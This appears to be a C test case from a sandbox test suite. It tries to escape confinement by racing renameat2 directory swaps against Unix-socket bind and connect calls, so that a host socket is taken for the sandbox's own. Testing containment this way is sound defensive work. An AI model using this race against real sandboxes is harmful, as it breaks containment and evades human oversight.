// escape: swap directories while a socket is bound, so that the host's is taken for the new one
// layer: guard
// outside: works
#include "payload.h"

static char *here, *there;
static volatile int stop;

static void *swap(void *none) {
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, here, AT_FDCWD, there, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

static void attempt(void) {
    pthread_t thread;
    here = join("ws", "here");
    there = join("ws", "there");
    char *host = join("ws", "there/x.sock"), *name = join("ws", "here/x.sock");
    if (mkdir(here, 0755) < 0 || mkdir(there, 0755) < 0) skip("mkdir: %s", strerror(errno));
    if (rename(in("ws", "host.sock"), host) < 0) blocked("rename");
    struct stat mine, found;
    if (stat(host, &mine) < 0) blocked("stat");
    // Make the host's socket look as a new one does for a moment, if there is such a look.
    chmod(host, 01755);
    struct sockaddr_un to = unix_address(name);
    if (pthread_create(&thread, NULL, swap, NULL)) skip("no thread");
    for (double end = seconds() + 1; seconds() < end;) {
        int listener = new_socket(AF_UNIX, SOCK_STREAM, 0);
        int bound = bind(listener, (void *)&to, sizeof to) == 0;
        for (int i = 0; i < 4; i++) {
            int fd = new_socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
            // Nobody listens on our own, so only the host's can answer.
            if (!connect(fd, (void *)&to, sizeof to)) {
                stop = 1;
                fcntl(fd, F_SETFL, 0);
                must_echo(fd, "a socket taken for an own one");
            }
            close(fd);
        }
        close(listener);
        // Our own goes again, whichever directory it is in; the host's stays.
        for (int i = 0; bound && i < 64; i++)
            if (!lstat(name, &found) && found.st_ino != mine.st_ino) {
                rename(name, join("ws", "gone.sock"));
                if (!lstat(join("ws", "gone.sock"), &found) && found.st_ino == mine.st_ino)
                    rename(join("ws", "gone.sock"), name);
            }
    }
    stop = 1;
    no_effect("swapping directories");
}
